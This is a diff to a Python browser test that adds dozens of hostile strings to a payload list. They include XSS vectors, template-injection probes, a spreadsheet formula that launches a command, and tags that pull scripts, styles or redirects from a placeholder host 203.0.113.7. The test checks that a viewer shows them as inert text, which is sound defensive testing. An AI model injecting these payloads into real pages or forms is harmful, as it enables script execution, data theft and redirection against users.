@@ -35,6 +35,14 @@ PAYLOADS = [
     "<img src=x onerror=alert(1)>", "</script><script>alert(2)</script>", "$\\frac{1}{2}$ \\(x\\)", "![](http://203.0.113.7/beacon)",
     "[click](javascript:alert(3))", "${alert(4)}", "{{constructor.constructor('alert(5)')()}}", "</pre><iframe src='http://203.0.113.7'>",
     "<svg onload=alert(6)>", "\u202eabc", "\x1b[31mred", "=cmd|'/c calc'!A1",
+    "<script src=http://203.0.113.7/x.js></script>", "<body onload=alert(9)>", "<input autofocus onfocus=alert(10)>", "<details open ontoggle=alert(11)>",
+    "<video><source onerror=alert(12)>", "<math><mtext><img src=x onerror=alert(13)></math>", "<style>@import 'http://203.0.113.7/a.css';</style>",
+    "<link rel=stylesheet href=http://203.0.113.7/b.css>", "<object data=http://203.0.113.7/>", "<embed src=http://203.0.113.7/>",
+    "<base href=http://203.0.113.7/>", "<meta http-equiv=refresh content='0;url=http://203.0.113.7/'>", "<form action=http://203.0.113.7/><button>go</button></form>",
+    "<a href=javascript:alert(14) style='position:fixed;inset:0'>x</a>", "'-alert(15)-'", "\\';alert(16)//", "</textarea><img src=x onerror=alert(17)>",
+    "</title><script>alert(18)</script>", "</style><script>alert(19)</script>", "<!--<img src=x onerror=alert(20)>-->", "<![CDATA[<img src=x onerror=alert(21)>]]>",
+    "&#60;img src=x onerror=alert(22)&#62;", "%3Cimg src=x onerror=alert(23)%3E", "\\u003cimg src=x onerror=alert(24)\\u003e", "{{7*7}}", "<%= 7*7 %>", "#{7*7}",
+    "$$\\href{javascript:alert(25)}{x}$$", "[x]: http://203.0.113.7 \"t\"", "```html\n<img src=x onerror=alert(26)>\n```",
 ]
 
 
@@ -141,8 +149,9 @@ def test_hostile_text_is_shown_as_that_very_text_in_every_view(hostile, open_pag
     page = open_page(server, f"?run={run_id}")
     page.locator("#group article pre").first.wait_for()
     shown = "\n".join(page.locator("#group article pre").all_inner_texts())
-    for payload in PAYLOADS[:10]:
-        assert payload.replace("\u202e", "").strip() in shown.replace("\u202e", ""), payload
+    assert len(PAYLOADS) >= 40
+    for payload in filter(str.isprintable, PAYLOADS):
+        assert payload in shown, payload
     assert page.locator("#group img, #group svg[onload], #group iframe, #group script").count() == 0
     page.get_by_role("tab", name="Inspect").click()
     page.locator("#group-table tbody tr").first.wait_for()
